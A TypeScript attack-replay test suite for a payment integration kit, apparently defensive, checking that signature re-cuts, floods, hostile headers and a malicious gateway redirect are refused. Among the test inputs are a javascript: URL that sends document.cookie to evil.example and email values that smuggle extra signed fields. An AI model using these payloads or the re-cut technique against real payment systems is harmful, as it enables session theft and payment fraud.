/**
 * The money path under attack, each finding written as the attack: real HTTP against a router with
 * its default options (unless a finding is about an option), the sandbox gateway on loopback, and the
 * attacker's requests made the way an attacker would make them. Every test here failed before its fix.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'node:http';
import type { Store, IncrementResponse, Options } from 'express-rate-limit';
import { createSandbox, type Sandbox } from '@haipay-kit/sandbox';
import { parseJsonLossless, scalarText, stringToSign, type LosslessObject } from '@haipay-kit/protocol';
import { createSigner, createVerifier } from '@haipay-kit/protocol/node';
import { HaiPayClient } from '../src/client.js';
import { HaiPayConfigError } from '../src/errors.js';
import { MemoryPaymentStore } from '../src/testing.js';
import { nextFromApply } from '../src/checkout/index.js';
import { createFetchTransport, type HttpTransport } from '../src/transport.js';
import {
  startHarness,
  idem,
  BUYER,
  CARD,
  ORIGIN,
  clientOptionsFor,
  paidFields,
  signedNotification,
  type CreatedOrder,
  type Harness,
} from '@haipay-kit/test-support';

let sandbox: Sandbox;
before(async () => {
  sandbox = await createSandbox();
});
after(async () => {
  await sandbox.close();
});

/** A correctly signed notification (what HaiPay would send), with any fields. */
const signed = (payload: Record<string, unknown>, currency: 'THB' | 'USD' = 'THB'): string =>
  signedNotification(sandbox, payload, currency);

/** POSTs raw text; `localAddress` makes the request come from another loopback address (another client). */
function post(
  url: string,
  body: string | Buffer,
  headers: Record<string, string> = { 'content-type': 'application/json' },
  localAddress?: string,
): Promise<{ status: number; text: string; type: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      url,
      { method: 'POST', headers, ...(localAddress ? { localAddress } : {}) },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => (text += c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, text, type: String(res.headers['content-type'] ?? '') }),
        );
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

async function promptpay(h: Harness, amount = '100.00', headers: Record<string, string> = {}) {
  h.order = { amount, currency: 'THB', subject: 'Order #1', buyerId: 'u-1001' };
  const res = await h.post('/haipay/payments', { method: 'promptpay', ...BUYER }, { ...idem(), ...headers });
  assert.equal(res.status, 201, JSON.stringify(res.json));
  return res.json as { orderId: string; orderNo: string };
}

const paid = (p: CreatedOrder, extra: Record<string, unknown> = {}) => paidFields(sandbox, p, extra);

/** A transport that records what the kit sends to the gateway. */
function recordingTransport(): HttpTransport & { bodies: Record<string, unknown>[] } {
  const inner = createFetchTransport();
  const bodies: Record<string, unknown>[] = [];
  return {
    bodies,
    async request(req) {
      if (req.body) bodies.push(JSON.parse(req.body) as Record<string, unknown>);
      return inner.request(req);
    },
  };
}

/**
 * A transport standing in for a compromised or broken gateway: it rewrites the answers' `data` and
 * signs them again with the platform key, so they still verify.
 */
function rewritingTransport(rewrite: (data: Record<string, unknown>, path: string) => void): HttpTransport {
  const inner = createFetchTransport();
  const signer = createSigner({
    privateKey: sandbox.config.platform.privateKey,
    secretKey: sandbox.merchant('USD').secretKey,
  });
  return {
    async request(req) {
      const res = await inner.request(req);
      const envelope = JSON.parse(res.body) as { data?: Record<string, unknown> };
      if (!envelope.data) return res;
      const { sign: _sign, ...data } = envelope.data;
      rewrite(data, new URL(req.url).pathname);
      envelope.data = signer.signParams(data);
      return { status: res.status, body: JSON.stringify(envelope) };
    },
  };
}

describe('attack: a signed notification re-cut to pay a second order', () => {
  let h: Harness;
  before(async () => {
    h = await startHarness({ sandbox });
  });
  after(async () => h.close());

  it('a buyer e-mail holding & and = is refused with a per-field 400 before any gateway call', async () => {
    const before = sandbox.orders().length;
    h.order = { amount: '100.00', currency: 'THB', subject: 'Order #1', buyerId: 'u-1001' };
    for (const email of ['a&orderId=hp_x&status=2&zz=b@example.com', 'a=b@example.com']) {
      const res = await h.post('/haipay/payments', { method: 'promptpay', ...BUYER, email }, idem());
      assert.equal(res.status, 400, JSON.stringify(res.json));
      assert.equal(res.json.error.type, 'validation_error');
      assert.deepEqual(
        (res.json.error.fields as { field: string }[]).map((f) => f.field),
        ['email'],
      );
    }
    assert.equal(sandbox.orders().length, before, 'HaiPay was never called');
  });

  it('the re-cut body verifies, but is not believed: the second order stays unpaid, no hook', async () => {
    const o1 = await promptpay(h);
    const o2 = await promptpay(h);
    // What HaiPay would sign for O1 had the e-mail passed (an older kit, or another integration).
    const email = `a&orderId=${o2.orderId}&status=2&zz=b@example.com`;
    const original = signed(paid(o1, { email }));
    const o1Map = parseJsonLossless(original) as LosslessObject;
    // The attacker's re-cut: same string to sign, other keys.
    const secret = sandbox.merchant('THB').secretKey;
    const target = stringToSign(o1Map, secret);
    const rest = target.slice(target.indexOf('&zz=') + 4, target.lastIndexOf('&key='));
    const recut = {
      amount: '100.00',
      appId: sandbox.merchant('THB').appId,
      currency: 'THB',
      email: 'a',
      orderId: o2.orderId,
      status: 2,
      zz: rest,
      sign: o1Map.sign,
    };
    assert.equal(stringToSign(recut, secret), target, 'the re-cut signs the very same string');
    const verifier = createVerifier({ publicKey: sandbox.config.platform.publicKey, secretKey: secret });
    assert.ok(verifier.verify(recut), 'so its signature verifies');

    const res = await post(`${h.url}/haipay/notify`, JSON.stringify(recut));
    assert.equal(res.status, 400);
    assert.notEqual(res.text, 'SUCCESS');
    assert.equal((await h.store.get(o2.orderId))?.status, 'pending');
    assert.deepEqual(
      h.calls.filter((c) => c.endsWith(o2.orderId)),
      [],
    );
    assert.equal(h.router.checkout.rejectedNotifications.at(-1)?.reason, 'rejected_ambiguous');
    // The ambiguous original is not believed either (O1 is unpaid at HaiPay: a query says so).
    const res1 = await post(`${h.url}/haipay/notify`, original);
    assert.equal(res1.status, 400);
    assert.equal((await h.store.get(o1.orderId))?.status, 'pending');
    assert.deepEqual(await h.store.listNotifications(o2.orderId), [], 'nothing stored for the target');
  });

  it('a notification naming another HaiPay orderNo is not credited, and a failure naming one does not close the order', async () => {
    const o1 = await promptpay(h);
    const o2 = await promptpay(h);
    // O2's real orderNo attached to O1: confirmed by query (O1 is unpaid), held for review, never paid.
    const res = await post(`${h.url}/haipay/notify`, signed(paid(o1, { orderNo: o2.orderNo })));
    assert.notEqual((await h.store.get(o1.orderId))?.status, 'succeeded');
    assert.equal(res.text, 'SUCCESS', 'recorded and reported (mismatch hook), so HaiPay need not retry');
    assert.match((await h.store.get(o1.orderId))?.failureReason ?? '', /^review: orderNo /);
    assert.ok(h.calls.includes(`mismatch:${o1.orderId}`));
    const fail = await post(
      `${h.url}/haipay/notify`,
      signed(paid(o2, { orderNo: o1.orderNo, status: 3, errorMsg: 'declined' })),
    );
    assert.equal(fail.status, 200);
    assert.equal((await h.store.get(o2.orderId))?.status, 'pending');
  });
});

describe('attack: late money after the kit expired the order', () => {
  let h: Harness;
  before(async () => {
    h = await startHarness({ sandbox });
    h.router.checkout.options.hooks.onLatePayment = (p) => void h.calls.push(`late:${p.orderId}`);
  });
  after(async () => h.close());

  it('a verified success on an expired order moves it to review and calls onLatePayment exactly once', async () => {
    const p = await promptpay(h);
    // The kit's own verdict: HaiPay still says "not started" past the payment window.
    await h.store.patch(p.orderId, { expiresAt: new Date(Date.now() - 60_000).toISOString() });
    await h.router.checkout.refresh(p.orderId, { force: true });
    assert.equal((await h.store.get(p.orderId))?.status, 'expired');
    await h.router.checkout.runHooks(p.orderId, Infinity);
    assert.deepEqual(h.calls, [`expired:${p.orderId}`]);

    // The buyer pays the QR after all: HaiPay's notification arrives (twice, as retries do).
    sandbox.complete(p.orderNo, 'success');
    await sandbox.idle();
    const body = signed(paid(p));
    const again = await post(`${h.url}/haipay/notify`, body);
    assert.equal(again.text, 'SUCCESS');
    const record = await h.store.get(p.orderId);
    assert.equal(record?.status, 'review');
    assert.match(record?.failureReason ?? '', /^late payment: paid after the order was expired/);
    assert.deepEqual(
      h.calls,
      [`expired:${p.orderId}`, `late:${p.orderId}`],
      'late hook once, no success hook',
    );
    const view = await h.get(`/haipay/payments/${p.orderId}`);
    assert.equal(view.json.status, 'review');
    const log = await h.store.listNotifications(p.orderId);
    assert.ok(log.some((n) => n.outcome === 'late_payment'));
  });

  it('a success on an expired order that a query does not confirm is held for review, not moved to review', async () => {
    const p = await promptpay(h);
    await h.store.patch(p.orderId, { expiresAt: new Date(Date.now() - 60_000).toISOString() });
    await h.router.checkout.refresh(p.orderId, { force: true });
    assert.equal((await h.store.get(p.orderId))?.status, 'expired');
    // Signed, unambiguous, but for another amount — and HaiPay's query says the order is unpaid.
    for (let i = 0; i < 2; i++) {
      const res = await post(`${h.url}/haipay/notify`, signed(paid(p, { amount: '1.00' })));
      assert.equal(res.text, 'SUCCESS');
    }
    const record = await h.store.get(p.orderId);
    assert.equal(record?.status, 'expired');
    assert.match(record?.failureReason ?? '', /^review: amount 1\.00/);
    assert.deepEqual(
      h.calls.filter((c) => c.endsWith(p.orderId) && !c.startsWith('expired')),
      [`mismatch:${p.orderId}`],
      'the merchant is alerted once; no late-payment hook',
    );
  });

  it('a verified success on a failed order is late money too', async () => {
    const p = await promptpay(h);
    await post(`${h.url}/haipay/notify`, signed(paid(p, { status: 3, errorMsg: 'declined' })));
    assert.equal((await h.store.get(p.orderId))?.status, 'failed');
    sandbox.complete(p.orderNo, 'success');
    const res = await post(`${h.url}/haipay/notify`, signed(paid(p)));
    assert.equal(res.text, 'SUCCESS');
    assert.equal((await h.store.get(p.orderId))?.status, 'review');
    assert.ok(h.calls.includes(`late:${p.orderId}`));
  });
});

describe('attack: status streams flood', () => {
  const openStream = (url: string, localAddress = '127.0.0.1') =>
    new Promise<{ status: number; close(): void; ended: Promise<void>; body: () => string }>(
      (resolve, reject) => {
        let text = '';
        const req = request(url, { headers: { accept: 'text/event-stream' }, localAddress }, (res) => {
          res.setEncoding('utf8');
          res.on('data', (c: string) => (text += c));
          const ended = new Promise<void>((r) => res.on('close', () => r()));
          resolve({ status: res.statusCode ?? 0, close: () => req.destroy(), ended, body: () => text });
        });
        req.on('error', reject);
        req.end();
      },
    );

  it('3,000 streams on one order from one client: only the per-order cap is served, a real shopper still pays and watches', async () => {
    const h = await startHarness({ sandbox });
    try {
      const victim = await promptpay(h);
      const url = `${h.url}/haipay/payments/${victim.orderId}/events`;
      const opened = [];
      for (let i = 0; i < 3000; i += 100) {
        opened.push(...(await Promise.all(Array.from({ length: 100 }, () => openStream(url)))));
      }
      const ok = opened.filter((s) => s.status === 200);
      assert.equal(ok.length, 8, 'the default per-order cap');
      assert.ok(opened.every((s) => s.status === 200 || s.status === 429));
      for (const s of opened) if (s.status !== 200) s.close();
      // A real shopper (another address) checks out and watches their own payment.
      const shopper = await promptpay(h);
      const own = await openStream(`${h.url}/haipay/payments/${shopper.orderId}/events`, '127.0.0.2');
      assert.equal(own.status, 200);
      sandbox.complete(shopper.orderNo, 'success');
      await sandbox.idle();
      await own.ended;
      assert.match(own.body(), /"status":"succeeded"/);
      for (const s of ok) s.close();
    } finally {
      await h.close();
    }
  });

  it('caps per client, per order and in total, with a clear 429 / 503, and a maximum lifetime', async (t) => {
    const h = await startHarness({
      sandbox,
      router: { streams: { perClient: 3, perOrder: 2, total: 4, maxLifetimeMs: 300 } },
    });
    try {
      const [a, b, c] = [await promptpay(h), await promptpay(h), await promptpay(h)];
      // The lifetime runs on a clock the test moves (performance.now and the lifetime timer), so
      // opening the streams may take as long as a busy machine makes it: none ends before the caps are
      // checked.
      // Whole milliseconds, so that opened + 299 + 1 is exactly opened + 300 (see streams.test.ts).
      let time = Math.round(performance.now());
      t.mock.method(performance, 'now', () => time);
      t.mock.timers.enable({ apis: ['setTimeout'] });
      const ev = (o: { orderId: string }) => `${h.url}/haipay/payments/${o.orderId}/events`;
      const a1 = await openStream(ev(a));
      const a2 = await openStream(ev(a));
      const a3 = await openStream(ev(a), '127.0.0.5');
      assert.deepEqual([a1.status, a2.status, a3.status], [200, 200, 429], 'per order');
      assert.match(a3.body() || '', /too_many_streams|/);
      const b1 = await openStream(ev(b));
      const b2 = await openStream(ev(b));
      assert.deepEqual([b1.status, b2.status], [200, 429], 'per client (3)');
      const c1 = await openStream(ev(c), '127.0.0.3');
      const c2 = await openStream(ev(c), '127.0.0.4');
      assert.deepEqual([c1.status, c2.status], [200, 503], 'in total (4)');
      // Every stream ends by itself after its lifetime (the browser reconnects); capacity comes back.
      time += 299;
      t.mock.timers.tick(299);
      const again = await openStream(ev(c), '127.0.0.4');
      assert.equal(again.status, 503, 'still full 1 ms before the lifetime ends');
      time += 1;
      t.mock.timers.tick(1);
      t.mock.timers.reset(); // the streams were ended in that tick; what is left is I/O
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([
        Promise.all([a1.ended, a2.ended, b1.ended, c1.ended]),
        new Promise((_, reject) => {
          timer = setTimeout(() => reject(new Error('the streams did not end at their lifetime')), 10_000);
        }),
      ]);
      clearTimeout(timer);
      const after = await openStream(ev(c), '127.0.0.4');
      assert.equal(after.status, 200);
      after.close();
    } finally {
      t.mock.timers.reset();
      await h.close();
    }
  });

  it('one store poll per order, however many streams watch it', async (t) => {
    const h = await startHarness({ sandbox, router: { ssePollMs: 50, refreshAfterMs: 60_000 } });
    // A store that cannot tell whether another process wrote (no changedElsewhere), so the streams
    // poll it on every tick: the case where one poll per stream would multiply the reads.
    Object.defineProperty(h.store, 'changedElsewhere', { value: undefined });
    try {
      const p = await promptpay(h);
      let gets = 0;
      const get = h.store.get.bind(h.store);
      h.store.get = async (id) => {
        if (id === p.orderId) gets++;
        return get(id);
      };
      // The poller's ticks are counted, not timed: its interval is mocked and moved by the test.
      t.mock.timers.enable({ apis: ['setInterval'] });
      const streams = await Promise.all(
        Array.from({ length: 8 }, () => openStream(`${h.url}/haipay/payments/${p.orderId}/events`)),
      );
      const opening = gets; // one read per stream to open it
      for (let tick = 0; tick < 10; tick++) {
        t.mock.timers.tick(50);
        await new Promise((r) => setImmediate(r)); // that tick's read
      }
      const polls = gets - opening;
      for (const s of streams) s.close();
      // One shared poll per tick; one poll per stream would be 80.
      assert.equal(polls, 10, 'store reads in 10 poll intervals while 8 streams watched one order');
    } finally {
      t.mock.timers.reset();
      await h.close();
    }
  });
});

describe('attack: /notify flood and hostile bodies', () => {
  let h: Harness;
  before(async () => {
    h = await startHarness({ sandbox });
  });
  after(async () => h.close());

  it('forged bodies are never written to the store, and the route is rate-limited on refusals only', async () => {
    const p = await promptpay(h);
    const forged = JSON.stringify({ ...paid(p), sign: 'AAAA' }) + ' '.repeat(7000);
    const answers: number[] = [];
    for (let i = 0; i < 70; i++) answers.push((await post(`${h.url}/haipay/notify`, forged)).status);
    assert.deepEqual(answers.slice(0, 60), Array(60).fill(400));
    assert.deepEqual(answers.slice(60), Array(10).fill(429));
    assert.deepEqual(await h.store.listNotifications(p.orderId), []);
    assert.ok(h.router.checkout.rejectedNotifications.length <= 20, 'a bounded sample in memory');
    assert.ok(h.router.checkout.rejectedNotifications.every((r) => r.sample.length <= 512));
    // HaiPay (another address) is not locked out by the attacker's refusals.
    const ok = await post(`${h.url}/haipay/notify`, signed(paid(p)), undefined, '127.0.0.2');
    assert.equal(ok.text, 'SUCCESS');
  });

  it('verified notifications never count against the limit (80 for unknown orders in a row)', async () => {
    const statuses = new Set<number>();
    for (let i = 0; i < 80; i++) {
      const body = signed(paid({ orderId: `hp_unknown_${i}_abcdefgh`, orderNo: `99${i}` }));
      statuses.add((await post(`${h.url}/haipay/notify`, body, undefined, '127.0.0.3')).status);
    }
    assert.deepEqual([...statuses], [404]);
  });

  it('parser errors are answered by the router in plain text, never by the host app', async () => {
    const big = await post(
      `${h.url}/haipay/notify`,
      'x'.repeat(70 * 1024),
      { 'content-type': 'application/json' },
      '127.0.0.4',
    );
    assert.equal(big.status, 413);
    assert.match(big.type, /^text\/plain/);
    assert.match(big.text, /^FAIL/);
    const gz = await post(
      `${h.url}/haipay/notify`,
      Buffer.from('not gzip at all'),
      { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      '127.0.0.4',
    );
    assert.ok(gz.status >= 400 && gz.status < 500, String(gz.status));
    assert.match(gz.type, /^text\/plain/);
    const enc = await post(
      `${h.url}/haipay/notify`,
      'x',
      { 'content-type': 'application/json', 'content-encoding': 'compress' },
      '127.0.0.4',
    );
    assert.equal(enc.status, 415);
    assert.match(enc.type, /^text\/plain/);
  });

  it('an IP allow-list refuses everyone else with 403', async () => {
    const g = await startHarness({ sandbox, router: { notify: { allowIps: ['127.0.0.9'] } } });
    try {
      const p = await promptpay(g);
      const body = signed(paid(p));
      const refused = await post(`${g.url}/haipay/notify`, body);
      assert.equal(refused.status, 403);
      assert.equal((await g.store.get(p.orderId))?.status, 'pending');
      const allowed = await post(`${g.url}/haipay/notify`, body, undefined, '127.0.0.9');
      assert.equal(allowed.text, 'SUCCESS');
    } finally {
      await g.close();
    }
  });

  it('a verified notification in a shape HaiPay does not document is refused and recorded; unknown extra fields are tolerated', async () => {
    const p = await promptpay(h);
    const bad = await post(
      `${h.url}/haipay/notify`,
      signed(paid(p, { status: 'paid' })),
      undefined,
      '127.0.0.6',
    );
    assert.equal(bad.status, 400);
    assert.equal((await h.store.get(p.orderId))?.status, 'pending');
    assert.deepEqual(
      (await h.store.listNotifications(p.orderId)).map((n) => n.outcome),
      ['rejected_schema'],
    );
    sandbox.complete(p.orderNo, 'success');
    const extra = await post(
      `${h.url}/haipay/notify`,
      signed(paid(p, { riskScore: 7, channelRef: 'X-1' })),
      undefined,
      '127.0.0.6',
    );
    assert.equal(extra.text, 'SUCCESS');
    assert.equal((await h.store.get(p.orderId))?.status, 'succeeded');
  });
});

describe('attack: a javascript: payment page from the gateway', () => {
  it('is never offered to the browser as a redirect', async () => {
    const h = await startHarness({
      sandbox,
      client: {
        transport: rewritingTransport((data, path) => {
          if (path.endsWith('/collect/apply'))
            data.payUrl = 'javascript:fetch("//evil.example/?"+document.cookie)';
        }),
      },
    });
    try {
      h.order = { amount: '9.99', currency: 'USD', subject: 'Card', buyerId: 'u-1001' };
      const res = await h.post(
        '/haipay/payments',
        { method: 'card', ...BUYER, ...CARD, cardNumber: '4000056655665556' },
        idem(),
      );
      assert.equal(res.status, 201, JSON.stringify(res.json));
      assert.deepEqual(res.json.next, { type: 'wait' });
      assert.doesNotMatch(JSON.stringify(res.json), /javascript/i);
      assert.ok(h.logger.lines.some((l) => l.includes('payUrl refused')));
    } finally {
      await h.close();
    }
  });

  it('http: is followed only outside production', () => {
    assert.deepEqual(nextFromApply({ payUrl: 'http://sandbox.local/3ds' }, true), {
      type: 'redirect',
      url: 'http://sandbox.local/3ds',
    });
    assert.deepEqual(nextFromApply({ payUrl: 'http://sandbox.local/3ds' }, false), { type: 'wait' });
    assert.deepEqual(nextFromApply({ payUrl: 'data:text/html,<script>1</script>' }, true), { type: 'wait' });
  });

  it('a verified apply answer without orderNo is not believed: outcome unknown (202), settled by query', async () => {
    const h = await startHarness({
      sandbox,
      client: {
        transport: rewritingTransport((data, path) => {
          if (path.endsWith('/collect/apply')) delete data.orderNo;
        }),
      },
    });
    try {
      h.order = { amount: '100.00', currency: 'THB', subject: 'x', buyerId: 'u-1001' };
      // The rewriting transport signs with the USD secret; use USD so the answer verifies.
      h.order = { amount: '9.99', currency: 'USD', subject: 'Card', buyerId: 'u-1001' };
      const res = await h.post('/haipay/payments', { method: 'card', ...BUYER, ...CARD }, idem());
      assert.equal(res.status, 202, JSON.stringify(res.json));
      assert.equal(res.json.status, 'unknown');
    } finally {
      await h.close();
    }
  });
});

describe('attack: hostile headers and bodies on the browser routes', () => {
  let h: Harness;
  let transport: ReturnType<typeof recordingTransport>;
  before(async () => {
    transport = recordingTransport();
    h = await startHarness({ sandbox, client: { transport } });
  });
  after(async () => h.close());

  const card = async (headers: Record<string, string>) => {
    h.order = { amount: '9.99', currency: 'USD', subject: 'Card', buyerId: 'u-1001' };
    return h.post('/haipay/payments', { method: 'card', ...BUYER, ...CARD }, { ...idem(), ...headers });
  };

  it('an invalid Referer or empty User-Agent is replaced, never a 500', async () => {
    h.order = { amount: '9.99', currency: 'USD', subject: 'Card', buyerId: 'u-1001' };
    const r1 = await post(`${h.url}/haipay/payments`, JSON.stringify({ method: 'card', ...BUYER, ...CARD }), {
      'content-type': 'application/json',
      origin: ORIGIN,
      referer: 'not a url at all',
      'user-agent': '',
      ...idem(),
    });
    assert.equal(r1.status, 201, r1.text);
    const sent = transport.bodies.at(-1)!;
    assert.equal(sent.referer, ORIGIN);
    assert.equal(sent.userAgent, 'unknown');
  });

  it('a Referer with a query and a User-Agent with & and = reach HaiPay cleaned (unambiguous)', async () => {
    const r = await card({
      referer: 'https://shop.example/checkout?step=2&coupon=X#pay',
      'user-agent': 'Mozilla/5.0 (X11; a=b&c=d) Test',
    });
    assert.equal(r.status, 201, JSON.stringify(r.json));
    const sent = transport.bodies.at(-1)!;
    assert.equal(sent.referer, 'https://shop.example/checkout');
    assert.equal(sent.userAgent, 'Mozilla/5.0 (X11; a b c d) Test');
  });

  it('a 5,000-deep JSON body → 400 before resolveOrder runs', async () => {
    let resolved = 0;
    const g = await startHarness({
      sandbox,
      router: {
        resolveOrder: () => {
          resolved++;
          return { amount: '100.00', currency: 'THB', subject: 'x', buyerId: 'u-1001' };
        },
      },
    });
    try {
      const deep = '{"method":"promptpay","x":' + '['.repeat(5000) + ']'.repeat(5000) + '}';
      const res = await g.post('/haipay/payments', deep, idem());
      assert.equal(res.status, 400);
      assert.ok(['invalid_request', 'invalid_json'].includes(res.json.error.type), res.json.error.type);
      assert.equal(resolved, 0);
    } finally {
      await g.close();
    }
  });

  it('valid JSON that is not an object → 400 invalid_request naming the problem', async () => {
    for (const body of ['null', '"x"', '1', 'true', '[]']) {
      const res = await h.post('/haipay/payments', body, idem());
      assert.equal(res.status, 400, body);
      assert.deepEqual(res.json.error, {
        type: 'invalid_request',
        message: 'The body must be a JSON object.',
      });
    }
  });

  it('an unknown charset → 415, not 500', async () => {
    const res = await fetch(`${h.url}/haipay/payments`, {
      method: 'POST',
      headers: { origin: ORIGIN, 'content-type': 'application/json; charset=koi8-r', ...idem() },
      body: JSON.stringify({ method: 'promptpay', ...BUYER }),
    });
    assert.equal(res.status, 415);
    assert.equal(((await res.json()) as { error: { type: string } }).error.type, 'unsupported_charset');
  });

  it('a plain-http gateway URL is refused in production', () => {
    assert.throws(
      () => new HaiPayClient({ ...clientOptionsFor(sandbox), production: true }),
      (err: unknown) =>
        err instanceof HaiPayConfigError && /plain http, refused in production/.test(err.message),
    );
  });
});

describe('attack: rate-limit bypass', () => {
  /** A counting store shared by "instances" (what rate-limit-redis does across processes). */
  class SharedStore implements Store {
    windowMs = 60_000;
    constructor(readonly hits: Map<string, number>) {}
    init(options: Options) {
      this.windowMs = options.windowMs;
    }
    async increment(key: string): Promise<IncrementResponse> {
      const n = (this.hits.get(key) ?? 0) + 1;
      this.hits.set(key, n);
      return { totalHits: n, resetTime: new Date(Date.now() + this.windowMs) };
    }
    async decrement(key: string) {
      this.hits.set(key, Math.max(0, (this.hits.get(key) ?? 0) - 1));
    }
    async resetKey(key: string) {
      this.hits.delete(key);
    }
  }

  const tryCreate = async (h: Harness, xff?: string) => {
    h.order = { amount: '100.00', currency: 'THB', subject: 'x', buyerId: 'u-1001' };
    const res = await h.post(
      '/haipay/payments',
      { method: 'promptpay', ...BUYER },
      { ...idem(), ...(xff ? { 'x-forwarded-for': xff } : {}) },
    );
    return res.status;
  };

  it('a client rotating X-Forwarded-For is still one client when trust proxy names the real proxy', async () => {
    const h = await startHarness({ sandbox, router: { rateLimit: { max: 3 } } });
    h.app.set('trust proxy', '10.1.2.3'); // the guide's advice: your proxy's address, not a hop count
    try {
      const statuses = [];
      for (let i = 0; i < 5; i++) statuses.push(await tryCreate(h, `198.51.100.${i}`));
      assert.deepEqual(statuses, [201, 201, 201, 429, 429]);
    } finally {
      await h.close();
    }
  });

  it('IPv6 clients are counted per /64', async () => {
    const h = await startHarness({ sandbox, router: { rateLimit: { max: 2 } } });
    h.app.set('trust proxy', 'loopback'); // the test plays the proxy
    try {
      const same64 = [];
      for (const ip of ['2001:db8:1:2::1', '2001:db8:1:2::dead:beef', '2001:db8:1:2:ffff::9'])
        same64.push(await tryCreate(h, ip));
      assert.deepEqual(same64, [201, 201, 429]);
      assert.equal(await tryCreate(h, '2001:db8:1:3::1'), 201, 'the next /64 is another client');
    } finally {
      await h.close();
    }
  });

  it('a shared store makes the limit hold across two instances', async () => {
    const hits = new Map<string, number>();
    const a = await startHarness({
      sandbox,
      router: { rateLimit: { max: 3, store: new SharedStore(hits) } },
    });
    const b = await startHarness({
      sandbox,
      router: { rateLimit: { max: 3, store: new SharedStore(hits) } },
    });
    try {
      const statuses = [await tryCreate(a), await tryCreate(b), await tryCreate(a), await tryCreate(b)];
      assert.deepEqual(statuses, [201, 201, 201, 429]);
    } finally {
      await a.close();
      await b.close();
    }
  });

  it('your own middleware replaces the built-in limiter', async () => {
    const h = await startHarness({
      sandbox,
      router: {
        rateLimit: (_req, res) => {
          res.status(429).json({ error: { type: 'custom_limit', message: 'no' } });
        },
      },
    });
    try {
      h.order = { amount: '100.00', currency: 'THB', subject: 'x', buyerId: 'u-1001' };
      const res = await h.post('/haipay/payments', { method: 'promptpay', ...BUYER }, idem());
      assert.equal(res.status, 429);
      assert.equal(res.json.error.type, 'custom_limit');
    } finally {
      await h.close();
    }
  });
});

describe('attack: slow merchant hooks', () => {
  /** A hook that blocks until released, counting its runs. */
  const gate = () => {
    let release!: () => void;
    const released = new Promise<void>((r) => (release = r));
    return { runs: 0, released, release };
  };

  it('a hook running longer than hookLeaseMs is not run a second time while it is alive', async (t) => {
    // Both halves of the lease are moved by the test, none by the machine: its time is the router's
    // clock (which the store shares), and the running hook's renewal timer (every third of the lease)
    // is a mocked interval. So a busy machine can neither let the claim of a live hook run out nor hide
    // a hook that does not renew it.
    let time = Date.now();
    const now = () => time;
    const lease = 60_000;
    const g = gate();
    const h = await startHarness({
      sandbox,
      store: new MemoryPaymentStore({ now }),
      router: { now, hookLeaseMs: lease, hookWaitMs: 30 },
    });
    try {
      h.router.checkout.options.hooks.onPaymentSucceeded = async () => {
        g.runs++;
        await g.released;
      };
      const p = await promptpay(h);
      t.mock.timers.enable({ apis: ['setInterval'] });
      const res = await post(`${h.url}/haipay/notify`, signed(paid(p)));
      assert.equal(res.text, 'SUCCESS', 'answered while the hook still runs (its state is durable)');
      assert.equal(g.runs, 1);
      // Four leases, a third at a time; after each, a reconciler pass and HaiPay delivering it again.
      for (let third = 1; third <= 12; third++) {
        time += lease / 3;
        t.mock.timers.tick(lease / 3);
        await new Promise((r) => setImmediate(r)); // the renewal's store write
        await h.router.checkout.runPendingHooks();
        await post(`${h.url}/haipay/notify`, signed(paid(p)));
        assert.equal(g.runs, 1, `run a second time ${(third * lease) / 3000} s after it started`);
      }
      g.release();
      await h.router.checkout.settle(1000);
      assert.equal((await h.store.get(p.orderId))?.hookStatus, 'succeeded');
    } finally {
      t.mock.timers.reset();
      g.release();
      await h.close();
    }
  });

  it("the shopper's GET that settles an order does not wait for the merchant's hook", async () => {
    const g = gate();
    const h = await startHarness({ sandbox, router: { refreshAfterMs: 0 } });
    try {
      h.router.checkout.options.hooks.onPaymentSucceeded = async () => {
        g.runs++;
        await g.released;
      };
      const p = await promptpay(h);
      sandbox.injectFault({ mode: 'delayedNotification', endpoint: 'thb/collect/apply' }); // held on the virtual clock
      sandbox.complete(p.orderNo, 'success');
      const view = await h.get(`/haipay/payments/${p.orderId}`);
      assert.equal(view.json.status, 'succeeded');
      assert.equal(
        (await h.store.get(p.orderId))?.hookStatus,
        null,
        'the GET came back while the hook was blocked',
      );
      g.release();
      await h.router.checkout.settle(1000);
      assert.equal(g.runs, 1);
      assert.equal((await h.store.get(p.orderId))?.hookStatus, 'succeeded');
    } finally {
      sandbox.clearFaults();
      g.release();
      await h.close();
    }
  });

  it('a subscription deduction reaches onSubscriptionDeduction exactly once, across duplicates and a throwing first try', async () => {
    const h = await startHarness({ sandbox });
    try {
      const deductions: string[] = [];
      let failFirst = true;
      h.router.checkout.options.hooks.onSubscriptionDeduction = (_s, d) => {
        if (failFirst) {
          failFirst = false;
          throw new Error('temporary');
        }
        deductions.push(`${scalarText(d.deductNo)}:${scalarText(d.status)}`);
      };
      const sub = await h.post('/haipay/subscriptions', { ...BUYER, ...CARD }, idem());
      assert.ok([201, 202].includes(sub.status), JSON.stringify(sub.json));
      const record = await h.store.get(sub.json.subscriptionId);
      const body = signed(
        {
          type: 'SUBSCRIPTIONS_DEDUCT',
          appId: sandbox.merchant('USD').appId,
          currency: 'USD',
          subscriptionOrderId: record!.orderId,
          subscriptionNo: record!.orderNo,
          deductNo: 'D-1',
          orderNo: '7026010100000001',
          amount: '9.99',
          status: 2,
          startTime: '2026-01-01 00:00:00',
          endTime: '2026-02-01 00:00:00',
        },
        'USD',
      );
      const first = await post(`${h.url}/haipay/notify`, body);
      assert.equal(first.status, 500, 'the hook threw: FAIL, so HaiPay retries');
      const answers = await Promise.all([1, 2, 3].map(() => post(`${h.url}/haipay/notify`, body)));
      assert.deepEqual(
        answers.map((a) => a.text),
        ['SUCCESS', 'SUCCESS', 'SUCCESS'],
      );
      await h.router.checkout.runPendingHooks();
      assert.deepEqual(deductions, ['D-1:2']);
    } finally {
      await h.close();
    }
  });
});

describe('attack: re-cut request values never leave the kit', () => {
  it('the client refuses to sign a request whose values hold & or = (last line of defence)', async () => {
    const client = new HaiPayClient(clientOptionsFor(sandbox));
    await assert.rejects(
      client.collectQuery('THB', { orderId: 'hp_a&status=2' }),
      (err: Error) => err.name === 'HaiPayValidationError' && /ambiguous/.test(err.message),
    );
  });

  it('a merchant subject with "&" is a configuration error naming the field, before any gateway call', async () => {
    const h = await startHarness({ sandbox });
    try {
      const before = sandbox.orders().length;
